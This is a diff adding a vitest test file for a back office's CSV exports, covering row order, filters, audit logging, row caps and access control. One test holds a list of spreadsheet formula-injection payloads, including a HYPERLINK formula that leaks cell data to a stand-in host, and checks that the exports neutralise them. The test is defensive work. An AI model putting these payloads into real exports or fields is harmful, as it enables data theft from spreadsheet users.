@@ -1,0 +1,233 @@
+import { randomUUID } from "node:crypto";
+import type { AdminDeposit, AdminUser, AdminVerification, AdminWithdrawal, AuditEntry } from "@wazi/contracts";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { exportTable } from "../../apps/server/src/core/csv/export-table.ts";
+import { textCell } from "../../apps/server/src/core/csv/csv-cells.ts";
+import { openPool, type Sql } from "../../apps/server/src/db/pool.ts";
+import { depositTable } from "../../apps/server/src/features/deposits/admin-table.ts";
+import { errorOf, settleWithdrawal } from "../harness/money-calls.ts";
+import { startTestApp, type TestAnswer, type TestApp } from "../harness/test-app.ts";
+import { cellsOf, pageOf, walkTable } from "../harness/walk-table.ts";
+import { seedBackOffice } from "../seeding/seed-back-office.ts";
+
+let test: TestApp;
+let owner: Sql;
+
+/** What a spreadsheet would run. */
+const formulas = [
+  '=HYPERLINK("https://elsewhere.example?"&A1)',
+  "+1+1",
+  "-2+3",
+  "@SUM(1,1)",
+  "\t=1",
+  " =1+1",
+  "＝1",
+] as const;
+
+beforeAll(async () => {
+  test = await startTestApp();
+  owner = openPool(test.database.url, { role: null, max: 1 });
+  await seedBackOffice(owner, {
+    seed: 3,
+    now: new Date("2026-11-01T12:00:00Z"),
+    users: 60,
+    // More than are read at once.
+    deposits: 560,
+    withdrawals: 90,
+    hashedPassword: "-",
+    besideOthers: false,
+  });
+});
+afterAll(async () => {
+  await owner.end();
+  await test.close();
+});
+
+const fileOf = async (path: string): Promise<{ answer: TestAnswer; titles: string[]; rows: string[][] }> => {
+  const answer = await test.admin.call("GET", path);
+  if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${answer.text}`);
+  const [titles = [], ...rows] = cellsOf(answer.text);
+  return { answer, titles, rows };
+};
+
+/** The cells below a title. */
+const column = ({ titles, rows }: { titles: string[]; rows: string[][] }, title: string): string[] => {
+  const place = titles.indexOf(title);
+  if (place < 0) throw new Error(`no column ${title} among ${titles.join(", ")}`);
+  return rows.map((row) => row[place] ?? "");
+};
+
+const exportsOf = async (table: string): Promise<AuditEntry[]> =>
+  (await pageOf<AuditEntry>(test.admin, `/api/admin/audit?action=${table}.export&limit=200`)).items;
+
+describe("files of the back office", () => {
+  it.each(["users", "deposits", "withdrawals", "verifications"])(
+    "%s have every row of the list in its order, to be saved and kept nowhere else",
+    async (table) => {
+      for (const sort of ["-createdAt", table === "users" ? "name" : "user"]) {
+        const { onwards } = await walkTable<{ id: string }>(test.admin, `/api/admin/${table}?sort=${sort}&limit=200`);
+        const file = await fileOf(`/api/admin/${table}.csv?sort=${sort}`);
+        expect(column(file, "Id")).toEqual(onwards.flatMap(({ items }) => items.map(({ id }) => id)));
+        const day = new Date().toISOString().slice(0, 10);
+        expect(file.answer.headers).toMatchObject({
+          "content-type": "text/csv; charset=utf-8",
+          "content-disposition": `attachment; filename="wazi-${table}-${day}.csv"`,
+          "cache-control": "no-store",
+        });
+        expect(new Set(file.rows.map((row) => row.length))).toEqual(new Set([file.titles.length]));
+      }
+    },
+  );
+
+  it("hold the list's own figures, plain, and times in UTC", async () => {
+    const deposits = (await walkTable<AdminDeposit>(test.admin, "/api/admin/deposits?limit=200")).onwards;
+    const listed = deposits.flatMap(({ items }) => items);
+    const file = await fileOf("/api/admin/deposits.csv");
+    expect(column(file, "Amount (USD)")).toEqual(listed.map(({ amount }) => amount));
+    expect(column(file, "Received (USD)")).toEqual(listed.map(({ receivedAmount }) => receivedAmount ?? ""));
+    expect(column(file, "Started (UTC)")).toEqual(listed.map(({ createdAt }) => createdAt));
+    expect(column(file, "Ended (UTC)")).toEqual(listed.map(({ settledAt }) => settledAt ?? ""));
+    expect(column(file, "Ended by")).toEqual(listed.map(({ settledBy }) => settledBy?.email ?? ""));
+    expect(file.answer.text).toMatch(/,\d+\.\d{2},/);
+
+    const users = (await walkTable<AdminUser>(test.admin, "/api/admin/users?limit=200")).onwards;
+    const people = users.flatMap(({ items }) => items);
+    const userFile = await fileOf("/api/admin/users.csv");
+    expect(column(userFile, "Balance (USD)")).toEqual(people.map(({ account }) => account.balance));
+    expect(column(userFile, "Own money in bots (USD)")).toEqual(people.map(({ account }) => account.totalInvested));
+    expect(column(userFile, "Last signed in (UTC)")).toEqual(people.map(({ lastLoginAt }) => lastLoginAt ?? ""));
+
+    const withdrawals = (await pageOf<AdminWithdrawal>(test.admin, "/api/admin/withdrawals?limit=200")).items;
+    const withdrawalFile = await fileOf("/api/admin/withdrawals.csv");
+    const shown = column(withdrawalFile, "Destination");
+    expect(shown).toEqual(withdrawals.map(({ destination }) => destination));
+
+    const documents = (await pageOf<AdminVerification>(test.admin, "/api/admin/verifications?limit=200")).items;
+    const documentFile = await fileOf("/api/admin/verifications.csv");
+    expect(column(documentFile, "Document number")).toEqual(documents.map(({ documentNumber }) => documentNumber));
+    expect(column(documentFile, "Reviewed by")).toEqual(documents.map(({ reviewedBy }) => reviewedBy?.email ?? ""));
+  });
+
+  it("have only what the filters leave", async () => {
+    const address = "status=failed&search=a&sort=amount";
+    const { onwards } = await walkTable<AdminDeposit>(test.admin, `/api/admin/deposits?${address}&limit=200`);
+    const ids = onwards.flatMap(({ items }) => items.map(({ id }) => id));
+    expect(ids.length).toBeGreaterThan(3);
+    expect(column(await fileOf(`/api/admin/deposits.csv?${address}`), "Id")).toEqual(ids);
+    expect((await fileOf("/api/admin/deposits.csv?search=no+such+text")).rows).toEqual([]);
+  });
+
+  it("never hold anything that a spreadsheet would run, whoever has written it", async () => {
+    const investor = await test.funded("5000");
+    for (const formula of formulas) {
+      const asked = await investor.call("POST", "/api/user/withdrawals", {
+        amount: "11",
+        withdrawalType: "bank",
+        country: "Kenya",
+        bankName: formula,
+        accountName: `${formula}, "quoted"\r\nand on`,
+        destinationAddress: "0123456789",
+      });
+      expect([formula, asked.status, asked.text]).toMatchObject([formula, 201, expect.anything()]);
+      await settleWithdrawal(test.admin, (asked.body as { id: string }).id, { status: "rejected", notes: formula });
+    }
+    await owner`update users set first_name = ${formulas[0]}, last_name = ${formulas[3]}, phone = '+254712345678'
+      where id = ${investor.userId}`;
+    const withdrawals = await fileOf(`/api/admin/withdrawals.csv?user=${investor.userId}&sort=createdAt`);
+    const trimmed = formulas.map((formula) => formula.trim());
+    expect(column(withdrawals, "Bank")).toEqual(trimmed.map((formula) => `'${formula}`));
+    expect(column(withdrawals, "Note")).toEqual(trimmed.map((formula) => `'${formula}`));
+    expect(column(withdrawals, "Account name")).toEqual(trimmed.map((formula) => `'${formula}, "quoted"\r\nand on`));
+    expect(new Set(column(withdrawals, "Investor"))).toEqual(new Set([`'${formulas[0]} ${formulas[3]}`]));
+    const users = await fileOf(`/api/admin/users.csv?search=${encodeURIComponent(investor.email)}`);
+    expect(column(users, "First name")).toEqual([`'${formulas[0]}`]);
+    expect(column(users, "Phone")).toEqual(["'+254712345678"]);
+    for (const file of [withdrawals, users, await fileOf("/api/admin/deposits.csv")]) {
+      const cells = file.rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
+      expect(cells.filter((cell) => /^[\s\0]*[=+\-@\t\r\n\0＝＋－＠]/u.test(cell))).toEqual([]);
+    }
+  });
+
+  it("are in the audit log, with who took them, the filters and how many rows", async () => {
+    const before = (await exportsOf("users")).length;
+    const file = await fileOf("/api/admin/users.csv?search=a&sort=-balance");
+    const [entry] = await exportsOf("users");
+    expect(await exportsOf("users")).toHaveLength(before + 1);
+    expect(entry).toMatchObject({
+      actorId: test.admin.userId || (expect.any(String) as string),
+      actor: { email: "admin@wazi.local" },
+      subjectType: "table",
+      subjectId: "users",
+      before: null,
+      after: { filters: { search: "a", sort: "-balance" }, rows: file.rows.length },
+    });
+  });
+
+  it("end where a file is full, and say so", async () => {
+    const deps = { sql: test.sql, now: () => new Date("2026-11-21T23:59:59Z") };
+    const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
+    const source = depositTable(test.sql, { sort: "amount" });
+    const input = {
+      admin: { id: admin!.id, address: null },
+      query: {},
+      columns: [["Id", ({ id }: AdminDeposit) => textCell(id)]] as const,
+    };
+    const total = await source.countRows();
+    for (const most of [3, 505, total, total + 1]) {
+      const file = await exportTable(deps, source, input, most);
+      let text = "";
+      for await (const piece of file.content) text += piece;
+      const rows = cellsOf(text).slice(1);
+      const left = total - most;
+      const note = `${left} more rows are not listed here: a file has at most ${most}. Please narrow the filters.`;
+      expect([most, rows.length, rows.at(-1)?.[0]]).toEqual(
+        left > 0 ? [most, most + 1, note] : [most, total, expect.stringMatching(/^[\da-f-]{36}$/)],
+      );
+      expect(file.name).toBe("wazi-deposits-2026-11-21.csv");
+    }
+    expect((await exportsOf("deposits")).slice(0, 4).map(({ after }) => after?.["rows"])).toEqual([
+      total,
+      total,
+      505,
+      3,
+    ]);
+  });
+});
+
+describe("who may take a file", () => {
+  const files = ["users", "deposits", "withdrawals", "verifications"].map((table) => `/api/admin/${table}.csv`);
+
+  it("is an administrator of any role, and nobody else", async () => {
+    const investor = await test.signUp();
+    const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
+    for (const role of ["read-only", "money", "full"]) {
+      await owner`update users set admin_role = ${role} where id = ${admin!.id}`;
+      for (const file of files) expect([role, (await test.admin.call("GET", file)).status]).toEqual([role, 200]);
+    }
+    const taken = await owner`select from audit_log where action like '%.export'`;
+    for (const file of files) {
+      expect((await test.visitor().call("GET", file)).status).toBe(401);
+      expect((await investor.call("GET", file)).status).toBe(403);
+    }
+    expect(await owner`select from audit_log where action like '%.export'`).toHaveLength(taken.length);
+  });
+
+  it("is not another site's page, whose link would leave its trace in the audit log", async () => {
+    const taken = await owner`select from audit_log where action like '%.export'`;
+    for (const file of files) {
+      const answer = await test.admin.call("GET", file, undefined, { "sec-fetch-site": "cross-site" });
+      expect([answer.status, errorOf(answer).code]).toEqual([403, "FORBIDDEN"]);
+    }
+    expect(await owner`select from audit_log where action like '%.export'`).toHaveLength(taken.length);
+  });
+
+  it.each(["limit=5", "cursor=a", "sort=status", "format=xlsx", `user=${randomUUID()}x`])(
+    "gets a 400 for ?%s, and no file",
+    async (query) => {
+      for (const file of files) {
+        const answer = await test.admin.call("GET", `${file}?${query}`);
+        expect([file, answer.status, errorOf(answer).code]).toEqual([file, 400, "VALIDATION"]);
+      }
+    },
+  );
+});
